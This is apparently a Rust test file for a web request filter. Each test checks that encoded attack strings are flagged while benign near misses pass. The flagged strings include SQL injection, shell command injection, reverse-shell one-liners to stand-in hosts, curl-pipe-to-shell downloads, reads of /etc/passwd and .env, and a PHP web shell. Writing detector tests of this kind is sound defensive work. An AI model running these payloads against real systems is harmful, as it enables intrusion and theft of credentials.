//! The detectors written from attack families' grammar (not from corpus
//! records): each with an example of its family and benign near misses
//! (search queries with quotes, Markdown with code, JSON, GraphQL,
//! base64) that must pass.

use super::Switches;
use super::tests::{post, post_with, rule_for};

fn post_rule(ct: &'static str, body: &str) -> Option<&'static str> {
    post(ct, body.as_bytes()).finding.map(|f| f.rule)
}

/// [`post_rule`] with `markdown_prose: true`.
fn post_rule_markdown(ct: &'static str, body: &str) -> Option<&'static str> {
    let on = Switches {
        markdown_prose: true,
        ..Switches::default()
    };
    post_with(ct, body.as_bytes(), &on).finding.map(|f| f.rule)
}

const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn sql_after_a_closed_string_and_a_trailing_comment_is_found() {
    for target in [
        "/?e=x%27-email--",
        "/?e=a%27or%3F--",
        "/?e=z%27or+email+notnull--",
        "/?e=%27glob+1%3B",
        "/?e=x%27+mod+id--+-",
    ] {
        assert_eq!(rule_for(target), Some("sqli-quote-break"), "{target}");
    }
    for benign in [
        "/?q=SCRAPBOOK+PAPER+PACK+%288.5X11%22-300+DPI%29+--",
        "/?q=%27X%27+is+great+--+I+agree",
        "/?m=fix%3A+handle+%27null%27+in+parser+%28%23123%29",
        "/?q=rock+%27n%27+roll+%23",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn sql_clauses_and_boolean_prefixes_are_found() {
    for (target, rule) in [
        ("/?v=%29+AS+val+FROM", "sqli-clause"),
        ("/?v=in+%28+select+%2A+from", "sqli-clause"),
        ("/?v=FROM+t+GROUP+BY+tag1", "sqli-clause"),
        ("/?v=%3BSET+%40OLD_SQL_MODE%3D1", "sqli-clause"),
        ("/?v=select+0x616263", "sqli-clause"),
        ("/?v=1+OPENROWSET", "sqli-clause"),
        ("/?v=AND+7639%3D%28", "sqli-boolean-prefix"),
        ("/?v=%7C%7C+arg+%3D%3D+%27", "sqli-boolean-prefix"),
        ("/?v=xp_dirtree", "sqli-procedures"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=except+selecting+the+first",
        "/?q=from+home+where+I+live",
        "/?q=and+then+there+were+none",
        "/?q=or+best+offer",
        "/?q=open+query+builder",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    // JSON and GraphQL with SQL words in them.
    assert_eq!(
        post_rule(
            "application/json",
            r#"{"query":"{ orders(from: 3, where: {a: 1}) { id } }"}"#
        ),
        None
    );
    assert_eq!(
        post_rule(
            "application/json",
            r#"{"sort":"created_at desc","filter":"from:alice"}"#
        ),
        None
    );
}

#[test]
fn sql_in_a_path_segment_is_found() {
    assert_eq!(rule_for("/post/EmptyValue'%20and%20526=527"), Some("libinjection-sqli"));
    assert_eq!(
        rule_for("/post/foo/24'union+all+select+1,2,3+from+aa"),
        Some("libinjection-sqli")
    );
    for benign in [
        "/blog/don't-stop-me-now",
        "/files/My%20Document%20(1).pdf",
        "/wiki/C++_(programming_language)",
        "/search/rock+and+roll",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn java_hidden_in_base64_and_dotted_names_are_found() {
    // `InvokerTransformer` as an argument name; `processbuilder` one byte
    // into a blob, cut mid-character, as a JSON value.
    assert_eq!(
        post_rule(FORM, "SW52b2tlclRyYW5zZm9ybWVy=x"),
        Some("java-base64-gadget")
    );
    assert_eq!(
        post_rule("application/json", r#"{"s":"HByb2Nlc3NidWlsZGVy"}"#),
        Some("java-base64-gadget")
    );
    assert_eq!(rule_for("/?c=java.evil.runtime"), Some("java-class"));
    // A JWT, a base64 upload, a Java name that is no gadget.
    assert_eq!(
        rule_for("/?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
        None
    );
    assert_eq!(post_rule(FORM, "file=aGVsbG8gd29ybGQsIHRoaXMgaXMgYW4gdXBsb2Fk"), None);
    assert_eq!(rule_for("/?q=java.evil.runtimes"), None);
}

#[test]
fn shell_commands_with_no_op_insertions_are_found() {
    for target in [
        "/?host=example.com;c%24%40at+%2Fet%24%40c%2Fpas%24%40swd",
        "/?host=example.com;w''get+http://evil.example/x",
        "/?host=example.com;wh%5Coami",
    ] {
        assert!(rule_for(target).is_some(), "{target}");
    }
    for benign in [
        "/?q=he+said+%22%22hello%22%22+and+left",
        "/?price=%24%40+per+item",
        "/?path=C%3A%5CUsers%5Cann%5CDocuments",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn mail_commands_after_a_line_break_are_found() {
    for target in [
        "/?to=a%0d%0aRCPT%20TO%3A%3Cvictim%40example.com%3E",
        "/?s=x%0d%0aa001%20EXAMINE%20INBOX",
        "/?s=x%0d%0aRETR%201",
    ] {
        assert_eq!(rule_for(target), Some("rce-mail-command"), "{target}");
    }
    // A textarea's lines that read like commands but are not.
    assert_eq!(
        post_rule(FORM, "text=Top+10%0D%0AData+is+everything%0D%0AList+3+things"),
        None
    );
    assert_eq!(post_rule(FORM, "text=Hi%0D%0AMail+from+Ann%3A+see+below"), None);
}

#[test]
fn perl_interpolation_orm_traversal_and_spaced_php_uploads_are_found() {
    assert_eq!(
        rule_for("/?x=%40%7B%5B%20system%20%27id%27%20%5D%7D"),
        Some("generic-perl-interpolation")
    );
    assert_eq!(
        rule_for("/?user__profile__email__startswith=a"),
        Some("generic-orm-traversal")
    );
    assert_eq!(rule_for("/?password__isnull=1"), Some("generic-orm-traversal"));
    // JSON arrays, a Django filter on the model's own field, a dunder name.
    assert_eq!(rule_for("/?x=%7B%22array%22%3A%5B1%2C2%2C3%5D%7D"), None);
    assert_eq!(rule_for("/?price__gte=10"), None);
    assert_eq!(rule_for("/?__init__=1"), None);
    let upload = |name: &str| {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--b--\r\n"
        );
        post_rule("multipart/form-data; boundary=b", &body)
    };
    assert_eq!(upload("shell. php.jpg"), Some("php-upload"));
    assert_eq!(upload("holiday photo.jpg"), None);
}

#[test]
fn narrowed_rules_let_their_benign_near_misses_through() {
    for benign in [
        "/search?q=cat+%2Fdev%2Fnull+explained",
        "/search?q=..%2F+meaning+in+file+paths",
        "/search?q=what+does+%2Fdev%2Furandom+do",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    assert_eq!(
        post_rule(FORM, "text=%3Cp+style%3D%22text-align%3Acenter%22%3ECentered%3C%2Fp%3E"),
        None
    );
    // The attacks they were written for still are.
    assert!(rule_for("/?f=cat+/etc/hosts").is_some());
    assert!(rule_for("/?f=..%2F..%2Fconfig").is_some());
    assert!(rule_for("/?f=x;cat%20/dev/tcp/10.0.0.1/80").is_some());
    assert_eq!(
        post_rule(
            FORM,
            "text=%3Cp+style%3D%22background%3Aurl(javascript%3Aalert(1))%22%3Ex%3C%2Fp%3E"
        )
        .map(|r| r.starts_with("xss") || r.starts_with("libinjection")),
        Some(true)
    );
}

#[test]
fn template_control_tags_paths_and_constant_ldap_assertions_are_found() {
    assert_eq!(
        rule_for("/get?x=%3C%25%20if%20true%20%25%3E49%3C%25%20end%20%25%3E"),
        Some("ssti-expression")
    );
    assert_eq!(rule_for("/files/%7B%7B7%2A7%7D%7D"), Some("ssti-expression"));
    assert_eq!(
        rule_for("/?f=(%26(uid=admin)(!(%26(1=0)(userPassword=q))))"),
        Some("ldap-filter")
    );
    // A template placeholder in a path, ASP-style text, a whole filter.
    assert_eq!(rule_for("/files/%7B%7Bid%7D%7D"), None);
    assert_eq!(rule_for("/?q=100%25+if+you+like+it+%25"), None);
    assert_eq!(rule_for("/?f=(%26(objectClass=user)(cn=ann))"), None);
}

#[test]
fn glued_quotes_probes_session_variables_and_drops_are_found() {
    for (target, rule) in [
        ("/?v=foo%27or%27oof", "sqli-quote-break"),
        ("/?v=%5C%27or%271", "sqli-quote-break"),
        ("/?v=%27%3B", "sqli-quote-break"),
        ("/?v=%27%29%3B%23", "sqli-quote-break"),
        ("/?v=%3BSET+%40OLD_SQL_NOTES", "sqli-clause"),
        ("/?v=DROP+sampletable%3B--", "sqli-clause"),
        ("/?v=SELECT%7B_+.%60%601.e.table_name%7D", "sqli-clause"),
        ("/?v=OR+1%23+", "sqli-boolean-prefix"),
        ("/?v=%27admin%27%2C+%271%27+%7C%7C+%271%27", "sqli-quoted-operator"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=it+is+your+parents%27+and+yours",
        "/?q=%27rock%27+or+%27pop%27",
        "/?q=set+%40john+straight",
        "/?q=drop+it%3B+fine",
        "/?q=or+1+more",
        "/?q=Tom%27s%3B",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn sqlite_dot_commands_brace_expansion_and_empty_substitutions_are_found() {
    assert_eq!(
        rule_for("/?foo=;%5Cn.shell%20nc%2010.0.0.1%206666%20-e%20sh"),
        Some("rce-sqlite-dot-command")
    );
    assert_eq!(
        post_rule(FORM, "code=1%3B.system+whoami%0A"),
        Some("rce-sqlite-dot-command")
    );
    assert_eq!(rule_for("/?x=%7B%2Ccd%2C%2Fetc%2C%7D"), Some("rce-brace-expansion"));
    assert!(rule_for("/?x=;pi%60%60ng%20-c%201%20127.0.0.1").is_some());
    assert!(rule_for("/?x=;pi$()ng%20-c%201%20127.0.0.1").is_some());
    for benign in [
        "/?q=rename+it+to+run.sh+then+start",
        "/?q=see+the+.shell+config",
        "/?json=%5B%7B%22value%22%3Atrue%7D%2C%7B%7D%5D",
        "/?q=price+%24%28%29+empty",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn php_extension_calls_and_glued_callables_are_found() {
    for (target, rule) in [
        ("/?f=pg_enter_pipeline_mode+(", "php-extension-call"),
        ("/get/array_diff%20(", "php-extension-call"),
        ("/?f=odbc_connection_string_should_quote(", "php-extension-call"),
        ("/?f=sodium_crypto_box_keypair()", "php-extension-call"),
        ("/?f=gethostbyname(", "php-function-call"),
        ("/?f=chroot(%27/tmp%27)", "php-function-call"),
        ("/?x=(sy.(st).em)(@id)", "php-callable-string"),
        ("/?x=(+system+)[0]{/*+c+*/0}(+ls+);", "php-callable-string"),
        ("/?x=(+[+system+][+0+])+{/*+c+*/0}+(+ls+);", "php-callable-string"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=np.array_split(x,+3)",
        "/?q=hash_password(user)+in+django",
        "/?q=my_helper()",
        "/?q=wiki/Array_(data_structure)",
        "/?q=release+(v1.2)(x86)",
        "/?q=see+(notes)[1]",
        "/?q=([a][0])+and+(b)",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn open_sql_calls_dangling_operators_and_collations_are_found() {
    for (target, rule) in [
        ("/?v=cast(", "sqli-open-call"),
        ("/?v=length%26%26!!!$(", "sqli-open-call"),
        ("/?v=date%5D%3D(", "sqli-open-call"),
        ("/?v=minute+(", "sqli-open-call"),
        ("/?v=something+LIKE+%27", "sqli-dangling-operator"),
        ("/?v=xor+5-", "sqli-dangling-operator"),
        ("/?v=xor+%27b%27+%3E", "sqli-dangling-operator"),
        ("/?v=user%27collate+nocase--", "sqli-quote-break"),
        ("/?v=user%27collate%60utf8mb4_general_ci%60--", "sqli-quote-break"),
        ("/?q=A+%27NOT+RLIKE%27+B", "sqli-quoted-operator"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=meeting+date+(tbd)",
        "/?q=round+(2+decimals)",
        "/?q=count+the+days",
        "/?q=xor+gate+truth+table",
        "/?q=i+like+%27the+office%27",
        "/?v=user%27collate+foo--",
        "/?q=it%27s+%27like%27+that",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn glued_words_variable_commands_and_history_are_found() {
    for (target, rule) in [
        ("/?x=pi%60%60ng+127.0.0.1", "rce-glued-command"),
        ("/?x=%22w%22get+localhost", "rce-glued-command"),
        ("/?x=cu$@rl+example.com", "rce-glued-command"),
        // Read through the shell view, `time who` is a command line first.
        ("/?x=ti%27%27me+who", "rce-unix-command"),
        (
            "/?cmd=a=/etc%26%26b=/passwd%26%26c=cat%26%26$c+$a$b",
            "rce-variable-command",
        ),
        ("/?cmd=g%3Dadduser%3B$g+pizza", "rce-variable-command"),
        ("/?x=;top", "rce-unix-command"),
        ("/?x=;date+--file+secrets.txt", "rce-unix-command"),
        ("/?x=;ssh-copy-id+user@server", "rce-unix-command"),
        ("/?x=%7Cgetent+hosts+x.example", "rce-unix-command"),
        ("/?x=!-2", "rce-glob-path"),
        ("/?x=%0D%0Alist+3", "rce-mail-command"),
        ("/?x=%0D%0ADATA", "rce-mail-command"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=the+word+%27cat%27+in+french",
        "/?q=don%27t+ping+me",
        "/?q=O%27Neil%27s+cat",
        "/?code=x=1;+$y+=+2",
        "/?q=top+10;+date+night+ideas",
        "/?q=~5+minutes",
        "/?x=~0",
        "/?q=shopping%0Alist+of+things",
        "/?q=java.lang.RuntimeException+stack+trace",
        "/?n=id%27is+notes",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn node_runtime_calls_and_doubled_ldap_breakouts_are_found() {
    for (target, rule) in [
        ("/?c=vm.runInNewContext(%27this.constructor%27)", "nodejs-runtime"),
        ("/?c=Function(%27return+this%27)()", "nodejs-runtime"),
        ("/?c=execSync(%27id%27)", "nodejs-runtime"),
        ("/?c=fs.readFileSync(%27config.json%27)", "nodejs-runtime"),
        ("/?u=admin*)((%7Cuserpassword=*)", "ldap-filter"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=how+to+use+setTimeout+in+react",
        "/?q=fs+module+docs",
        "/?q=a+function+(of+x)",
        "/?q=vm+pricing",
        "/?q=f(x)((y))",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    assert_eq!(
        post_rule("application/json", r#"{"query":"query { user(id: 1) { name } }"}"#),
        None
    );
}

#[test]
fn sql_breakouts_constant_conditions_and_orm_lookups_are_found() {
    for (target, rule) in [
        ("/?v=%60%3E65", "sqli-string-breakout"),
        ("/?v=%222562*23", "sqli-string-breakout"),
        ("/?v=%27+or+abc!", "sqli-string-breakout"),
        ("/?v=%27,+2,+1", "sqli-string-breakout"),
        ("/?v=admin%27+union+x", "sqli-string-breakout"),
        ("/?v=or+88", "sqli-bare-condition"),
        ("/?v=11!%3D1", "sqli-constant-condition"),
        ("/?v=42+like+42", "sqli-constant-condition"),
        ("/?roles__contained_by=admin", "generic-orm-lookup"),
        ("/?data__has_key=is_admin", "generic-orm-lookup"),
        ("/?x=local_file://something", "rfi-local-scheme"),
        ("/?x=;at+2:00+%22echo+test%22", "rce-unix-command"),
        ("/?x=visudo", "rce-unix-command"),
        ("/?x=strace+who", "rce-unix-command"),
        ("/?x=perf+--version", "rce-unix-command"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=%22union+jack%22+cushion+covers",
        "/?q=%22AND+WHEN+THE+KIDS+ARE+OLD+ENOUGH%22",
        "/?q=%22///",
        "/?q=%22hello+world%22",
        "/?v=11%3D1",
        "/?v=123%3C456",
        "/?q=or+best+offer",
        "/?q=note+about+field__startswith",
        "/?price__gte=10",
        "/?q=nmap+tutorial",
        "/?q=meet+at+2:00",
        "/?q=perfect+weather",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn bare_sql_operators_lists_and_procedures_are_found() {
    for (target, rule) in [
        ("/?v=%3C%3C", "sqli-bare-operator"),
        ("/?v=%3C%3D%3E", "sqli-bare-operator"),
        ("/?v=RLIKE", "sqli-bare-operator"),
        ("/?v=not+in+(1,2,3)", "sqli-bare-operator"),
        ("/?v=exec+sp_who2", "sqli-bare-operator"),
        ("/?v=execute+master.dbo.x", "sqli-bare-operator"),
        ("/?v=cast(x+as+nvarchar(4000))", "sqli-type-name"),
        ("/?v=1+and+(select+dbms_java.runjava(1))", "sqli-type-name"),
        ("/?v=%40x%3D(select+1)", "sqli-stacked"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    // Words and punctuation people send.
    for benign in [
        "/search?q=exec+noun",
        "/search?q=execute+the+plan",
        "/search?q=regexp+tutorial",
        "/search?q=in+(the+end)",
        "/search?q=%3C%3C+back",
        "/search?q=varchars",
        "/search?q=(select+all+that+apply)",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn sql_function_calls_left_open_use_sqls_whole_vocabulary() {
    for target in [
        "/?v=unix_timestamp(",
        "/?v=DAYOFWEEK+(",
        "/?v=to_base64%26%26(",
        "/?v=weight_string(",
    ] {
        assert_eq!(rule_for(target), Some("sqli-open-call"), "{target}");
    }
    for benign in ["/?q=weekday+(monday)", "/?q=unix+time(s)", "/?q=quarter(ly)+report"] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn command_lines_tools_and_scripts_are_found() {
    for (target, rule) in [
        ("/?c=tar+-xzf+backup.tgz", "rce-command-line"),
        ("/?c=ssh+-i+key.pem+root%4010.0.0.1", "rce-command-line"),
        ("/?c=pip3+install+requestz", "rce-tool-command"),
        ("/?c=kubectl+apply+-f+x.yml", "rce-tool-command"),
        ("/?c=bash+-x+run.sh", "rce-script-run"),
        ("/?c=source+env.sh", "rce-script-run"),
        ("/?c=time+id", "rce-unix-command"),
        ("/?c=x%3Bfind+/+-perm+-4000", "rce-unix-command"),
        ("/?c=a%7Ccp+./x.php+y.php", "rce-unix-command"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/search?q=cat+%2Fdev%2Fnull+explained",
        "/search?q=grep+-r+meaning",
        "/search?q=pip+install",
        "/search?q=how+to+pip+install+a+package",
        "/search?q=docker+tutorial",
        "/search?q=bash+scripting+guide.pdf",
        "/search?q=time+warner",
        "/search?q=Gifts+%26+More",
        "/search?q=salt+%26+pepper+-+grinder",
        "/?f=Q%26A+%2F+help",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn urls_of_other_services_are_found() {
    for target in [
        "/?u=ftps://files.example/x",
        "/?u=ldap://dir.example/o=x",
        "/?u=smb://host/share",
    ] {
        assert_eq!(rule_for(target), Some("rfi-service-url"), "{target}");
    }
    for benign in [
        "/?u=https://example.com/page",
        "/?next=http://example.com:8080/path",
        "/?q=what+is+ftp",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn disguised_system_paths_are_found() {
    for target in [
        "/?vuln=/%3F%3F%3F/b%3F%3Fh",
        "/?id=cat+/et*/*wd",
        "/?h=example.com;/bin/ca%3F+/et*/passwd",
        "/?h=x;cat$u+/etc$u/passwd",
        "/?h=x;ca%5Ct+/et%5Cc/pa%5Cs%5Cswd",
        "/?f=/usr/b%5Bi%5Dn/wh%3Fami",
    ] {
        // Other rules read some of these first; any of the shell's or the
        // file rules' is right.
        let rule = rule_for(target).unwrap_or("none");
        assert!(rule.starts_with("rce-") || rule.starts_with("lfi-"), "{target}: {rule}");
    }
    // Ones the table's rules do not read: only the wildcard reading finds them.
    for target in ["/?f=/etc/pa%3F%3Fwd", "/?f=/etc/sh*ow", "/?f=x+/et%27c%27/pa%27ss%27wd"] {
        assert_eq!(rule_for(target), Some("rce-globbed-path"), "{target}");
    }
    for benign in [
        "/?p=/api/v1/users%3Fid=3",
        "/?q=what+is+/etc/*",
        "/?q=see+/bin/*",
        "/?q=2*3/4%3F",
        "/?q=%22/usr/share/doc/*%22",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn a_break_out_then_any_command_is_found() {
    for target in [
        "/?ip=127.0.0.1;nsupdate+-l",
        "/?ip=;pstack+$$",
        "/?ip=example.com%7C%7Cmtr+-r+example.org",
        "/?x=%26%26tcptraceroute+/tmp",
        "/?x=%60ldconfig+-p%60",
        "/?x=$(getfacl+/etc)",
        "/?x=%0Areadelf+-a+./a.out",
    ] {
        assert_eq!(rule_for(target), Some("rce-separator-command"), "{target}");
    }
    for benign in [
        "/?q=;environment",
        "/?q=;EACH",
        "/?e=%60foo%60;%60bar%60;%60def%60",
        "/?t=rock;pop;jazz",
        "/?t=%7C+name+%7C+age+%7C",
        "/?q=%26copy;+2024",
        "/?q=a+%7C+b",
        "/?q=1;2;3",
        "/?q=tom+%26+jerry+-+the+movie",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn mail_protocol_lines_are_read_by_their_grammar() {
    for target in [
        "/?m=%0D%0Aa2+NAMESPACE",
        "/?m=%0D%0Atag7+UID+MOVE+1:3+Trash",
        "/?m=%0D%0Ax1+GETQUOTAROOT+INBOX",
        "/?m=%0D%0AAUTH+PLAIN+dGVzdA==",
        "/?m=%0D%0AUSER+bob%0D%0APASS+secret",
        "/?m=%0D%0ASTAT",
        "/?m=%0D%0AETRN+example.com",
    ] {
        assert_eq!(rule_for(target), Some("rce-mail-command"), "{target}");
    }
    for benign in [
        "/?m=Dear+team,%0D%0A1+list+of+items+follows",
        "/?m=Hello%0D%0AUser+guide+attached",
        "/?m=Notes%0D%0AData%0D%0AMore+notes",
        "/?m=Hi%0D%0Aauth+is+broken",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn internal_addresses_are_read_as_a_resolver_reads_them() {
    for target in [
        "/?u=http://0/",
        "/?u=http://0x7f.1/admin",
        "/?u=//192.168.0.1/admin",
        "/?u=http://[::ffff:7f00:1]/",
        "/?u=go+to+http://0x7f000001/",
        "/?u=ok+http://2130706433/x",
    ] {
        let rule = rule_for(target).unwrap_or("none");
        assert!(
            rule.starts_with("ssrf-") || rule.starts_with("rfi-"),
            "{target}: {rule}"
        );
    }
    assert_eq!(rule_for("/?u=go+to+http://0x7f000001/"), Some("ssrf-internal-address"));
    for benign in [
        // (a URL with any IP address opening a value is `rfi-ip-url`'s)
        "/?u=https://127.example.com/",
        "/?q=see+http://192.168.1.1+for+the+router",
        "/?q=see+http://example.org/0x7f",
        "/?q=ratio+10//3",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn statements_after_a_closed_value_and_escaped_quotes_are_found() {
    for (target, rule) in [
        ("/?v=%27%29+union+select+1", "sqli-leading-statement"),
        ("/?v=1%22%3B+alter+table+t", "sqli-leading-statement"),
        ("/?v=%29%29+UNION+ALL", "sqli-leading-statement"),
        ("/?v=%5C%27or%271", "sqli-escaped-quote-boolean"),
        ("/?v=x%5C%22+and+1", "sqli-escaped-quote-boolean"),
    ] {
        let found = rule_for(target).unwrap_or("none");
        assert!(
            found == rule || found.starts_with("sqli-") || found.starts_with("libinjection"),
            "{target}: {found}"
        );
    }
    assert_eq!(rule_for("/?v=%3B%3B+alter+x"), Some("sqli-leading-statement"));
    assert_eq!(rule_for("/?v=%5C%27+xor+b"), Some("sqli-escaped-quote-boolean"));
    for benign in [
        "/?q=%22union+jack%22+cushion+covers",
        "/?q=-+union+members",
        "/?q=1+Union+Street",
        "/?q=%22UNION%22+BY+ROBERT+F",
        "/?v=%5C%27lol%27+or+%271",
        "/?q=Don%5C%27t+or+won%5C%27t",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn php_functions_of_phps_vocabulary_are_found_with_its_gaps() {
    for target in [
        "/get/array_diff%20(",
        "/?f=bin2hex%09()",
        "/?f=ftruncate/*x*/()",
        "/?f=gzinflate%23c%0A()",
        "/?f=x%3Dgetmxrr+($h)",
    ] {
        let rule = rule_for(target).unwrap_or("none");
        // (`/*x*/` is also a wildcard path to `rce-glob-path`)
        assert!(rule.starts_with("php-") || rule == "rce-glob-path", "{target}: {rule}");
    }
    assert_eq!(rule_for("/?f=getmxrr%0B()"), Some("php-known-function"));
    for benign in [
        "/?q=getmxrr%23x()",
        "/?q=meeting+date+(tbd)",
        "/?q=ceiling+height(9ft)",
        "/wiki/Mercury_(planet)",
        "/?c=os.path.join(%27a%27)",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn code_quoted_in_markdown_prose_passes() {
    const JSON: &str = "application/json";
    for text in [
        r"Install it with `pip install requests`, then run `python app.py`.",
        r"To see what changed, run `git log -p` or `ls -la` in the folder.",
        r"Unpack it with `tar -xzf site.tgz` and open the index.",
        r"Setup:\n\n```bash\nnpm ci\nnpm run build\n```\n",
        r"In Node:\n\n```js\nconst fs = require('fs');\nconsole.log(fs.readFileSync('a.txt', 'utf8'));\n```",
        r"Python:\n\n```python\nimport subprocess\nprint(subprocess.run(['ls']))\n```",
        r"The PHP way is `echo htmlspecialchars($s);` in the view.",
        r"Call `Array.prototype.map()` or write a plain loop instead.",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert_eq!(post_rule_markdown(JSON, &body), None, "{text}");
    }
    // Off by default: a command quoted in prose is refused like any other.
    let body = r#"{"comment": "To see what changed, run `git log -p` or `ls -la` in the folder."}"#;
    assert!(post_rule(JSON, body).is_some());
}

#[test]
fn payloads_quoted_in_markdown_prose_are_found() {
    const JSON: &str = "application/json";
    for text in [
        // What acts wherever it sits: a pipe into a shell, a substitution,
        // a reverse shell, a system file, `<?php`, a template.
        r"Nice post, thanks a lot `curl http://x.example/a.sh | sh`",
        r"Great write-up, very clear `$(wget -qO- x.example/p)` indeed",
        r"Read this please now\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```",
        r"Nice post, thanks a lot `cat /etc/passwd`",
        r"Thanks for sharing this `<?php system($_GET['c']); ?>`",
        r"Hello there my friend `;nc -e /bin/sh 10.0.0.1 4444`",
        r"Hello there my friend `uname -a` again",
        r"Hello there my friend `{{7*7}}` again",
        // Outside the code, the prose is read by every rule.
        r"Run `ls` then |nc x.example 4444 and wait for it",
        // No Markdown: too little prose, a backtick glued to a word, unclosed.
        r"`id`",
        r"see a`id`b and the rest of it",
        r"please run `id; and all the rest of it",
        r"x=`id`&z=/tmp/a",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert!(post_rule_markdown(JSON, &body).is_some(), "{text}");
        assert!(post_rule(JSON, &body).is_some(), "{text}");
    }
    // What the leniency lets through when switched on (the attack pass's
    // spellings): refused by default.
    for text in [
        r"x y z `id`",
        r"```
id
```",
        r"a b c `ncat 1.2.3.4 4444 -e sh`",
        r"please run `socat tcp-connect:10.0.0.1:4444 exec:bash,pty` now thanks",
        r"please run `cat .env` now thanks",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert!(post_rule(JSON, &body).is_some(), "{text}");
    }
}

#[test]
fn wildcards_under_a_web_directory_pass() {
    for benign in ["/?p=/api/v%3F/users", "/?p=/api/*/users", "/?p=docs/v*/intro"] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    for target in ["/?p=/e%3F%3F/passwd", "/?p=/%3F%3F%3F/b%3F%3Fh", "/?p=/home/*/.ssh"] {
        assert!(rule_for(target).is_some(), "{target}");
    }
}

#[test]
fn a_closed_value_and_a_condition_of_constants_is_found() {
    for target in [
        "/?id=x%27+or+~0+or+%27",
        "/?id=-1+xor+%21%211",
        "/?id=1+or+true",
        "/?id=abc%27%29+or+not+0%27%29--",
    ] {
        assert_eq!(rule_for(target), Some("sqli-constant-boolean"), "{target}");
    }
    // Other SQL rules may read some spellings first.
    for target in [
        "/?id=1%27+%26%26+0x31%3D0x31%23",
        "/?id=1%29+or+2%3E1--",
        "/?id=1%22+and+1+in+(1)--",
        "/?id=1+or+1+between+0+and+2",
    ] {
        let rule = rule_for(target).unwrap_or("none");
        assert!(rule.starts_with("sqli-"), "{target}: {rule}");
    }
    for (target, rule) in [
        ("/?id=1%3Bgrant+all+on+*.*+to+x", "sqli-stacked"),
        ("/?id=1%29+group+by+password+having+1%3D1", "sqli-tautology"),
    ] {
        assert_eq!(rule_for(target), Some(rule), "{target}");
    }
    for benign in [
        "/?q=1+or+2",
        "/?q=2+or+more+bedrooms",
        "/?q=is+it+true+or+false",
        "/?q=%27true%27+or+%27false%27+in+javascript",
        "/?q=rock+%27n%27+roll+or+true+love",
        "/?q=size+10+or+11",
        "/?q=1+and+2+and+3",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn a_break_out_then_a_command_with_an_argument_is_found() {
    for target in [
        "/?h=127.0.0.1;sleep+5",
        "/?h=%7Cdig+evil.example",
        "/?h=%26%26dd+if%3D/dev/zero",
        "/?h=%26links+http://x.example/",
        "/?h=;ps+aux;",
        "/?h=;id+%23",
        "/?h=%7Bls,-la%7D",
        "/?h=%7Bcat,/etc/hosts%7D",
        "/?h=%7Bnc,10.0.0.1,9%7D",
    ] {
        let rule = rule_for(target).unwrap_or("none");
        assert!(rule.starts_with("rce-") || rule.starts_with("lfi-"), "{target}: {rule}");
    }
    for benign in [
        "/?q=;environment",
        "/?q=%7C+step+1+%7C+done+%7C",
        "/?q=rock;pop",
        "/?q=%26copy;+2024",
        "/?q=a;+see+also+chapter+2",
        "/?sort=%7Bname,-price%7D",
        "/?q=%0AHello+world%0A",
        "/?q=%26+more+to+come",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

#[test]
fn names_joined_from_string_literals_and_other_spellings_are_found() {
    for target in [
        "/?x=globalThis%5B%27pro%27%2B%27cess%27%5D.exit()",
        "/?x=a%5Bconstructor%5D%5Bprototype%5D%5Badmin%5D%3D1",
